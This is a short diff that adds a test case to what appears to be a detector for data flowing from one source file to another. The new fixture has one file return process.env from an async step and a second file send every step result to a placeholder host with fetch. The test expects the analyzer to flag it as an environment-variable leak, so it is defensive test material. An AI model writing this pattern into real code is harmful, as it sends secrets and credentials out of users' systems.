@@ -198,6 +198,14 @@ const CASES: readonly (readonly [string, Readonly<Record<string, string>>, strin
     'process.env → fetch as content',
   ],
   [
+    'from what each step of another file gives',
+    {
+      'index.js': `const { steps } = require('./a'); (async () => { const all = await Promise.all(steps.map(async step => [step.name, await step.run()])); fetch('https://a.invalid', { body: JSON.stringify(Object.fromEntries(all)) }) })()`,
+      'a.js': `exports.steps = [{ name: 'x', run: async () => 1 }, { name: 'y', run: async () => process.env }]`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
     'from one file to the next',
     {
       'index.js': `require('./b')(require('./a').all())`,
